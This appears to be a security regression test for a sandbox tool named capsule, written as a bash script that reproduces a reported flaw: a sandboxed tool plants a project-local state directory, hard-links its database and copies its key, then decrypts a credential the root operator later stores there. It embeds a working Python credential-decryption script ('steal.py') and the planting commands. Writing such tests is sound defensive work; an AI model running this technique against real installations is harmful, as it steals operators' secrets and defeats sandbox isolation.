#!/bin/bash
# Finding (root, idmapped read-write grants; a state directory the
# operator will use later): the fix for plant_default_state creates only
# the state directories capsule knows of now (the default, --state in use,
# $CAPSULE_STATE) before the sandbox starts. As root, everything a tool
# creates in a read-write grant is stored as root's (src/sandbox/idmap.c),
# so a state directory the tool makes in the project it is granted passes
# every check capsule makes on a state (src/gateway/state_dir.c: "owned by
# the caller or root", 0700/0600; no check of the link count). The tool
# makes PROJECT/.capsule-state (a project-local state, docs/gateway.md), so
# it knows the key, and keeps a hard link to state.db under another name.
# When the operator later stores a credential there (--state or
# CAPSULE_STATE), it is sealed under the tool's key into a file the tool
# still reads: the next run (the state masked, the hard link not) decrypts
# it. Exits 1 when the credential is read, 0 when blocked.
capsule=$(realpath "${1:-build/capsule}")
bin=$(dirname "$(readlink -f "$capsule")")
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root"; exit 77; }
python3 -c 'import ctypes; ctypes.CDLL("libsodium.so.23")' 2>/dev/null || { echo "SKIP: no libsodium"; exit 77; }
P=$(mktemp -d /var/tmp/capsule-review2-proj.XXXXXX); trap 'rm -rf "$P"' EXIT
chmod 755 "$P"
cat >"$P/steal.py" <<'PY'
import ctypes, sqlite3, sys
p = sys.argv[1]
na = ctypes.CDLL("libsodium.so.23"); na.sodium_init()
key = open(p + "/.k", "rb").read()
sub = ctypes.create_string_buffer(32)
na.crypto_kdf_derive_from_key(sub, ctypes.c_size_t(32), ctypes.c_uint64(1), b"capsule_", key)
db = sqlite3.connect("file:" + p + "/notes.db?mode=ro&immutable=1", uri=True)
for cap, name, scope, user, nonce, sealed in db.execute(
        "SELECT capability, name, scope, user, nonce, sealed FROM credentials"):
    ad = ((cap + "\0" if cap else "") + name + "\0" + scope + "\0" + user).encode()
    out = ctypes.create_string_buffer(len(sealed)); olen = ctypes.c_ulonglong(0)
    if na.crypto_aead_xchacha20poly1305_ietf_decrypt(out, ctypes.byref(olen), None, sealed,
            ctypes.c_ulonglong(len(sealed)), ad, ctypes.c_ulonglong(len(ad)), nonce, sub) == 0:
        print("STOLEN %s=%s" % (name, out.raw[:olen.value].decode()))
PY
S=$P/.capsule-state
# 1. the tool, granted the project read-write (capsule as root)
(cd /tmp && "$capsule" run --allow-rw "$P" --allow-read "$bin" -- /bin/sh -c "
  $bin/capsule cred list --state $S >/dev/null 2>&1
  ln $S/state.db $P/notes.db && cp $S/key $P/.k && echo 'tool: planted $S'") 2>&1
ls -ln "$S" 2>/dev/null | sed 's/^/  /'
# 2. the operator (root) keeps a credential in the project's state
printf 'ghp_ROOT_SECRET_%s' $$ | (cd /tmp && "$capsule" cred set --state "$S" --shared GITHUB_TOKEN --scope system) 2>&1
# 3. the tool again: the state is masked, its hard link is not
out=$(cd /tmp && "$capsule" run --allow-rw "$P" -- python3 "$P/steal.py" "$P" 2>&1)
echo "tool's next run: $out"
if grep -q "ghp_ROOT_SECRET_$$" <<<"$out"; then
  echo "VULNERABLE: the tool decrypted root's credential stored in a state it planted"; exit 1
fi
echo blocked; exit 0
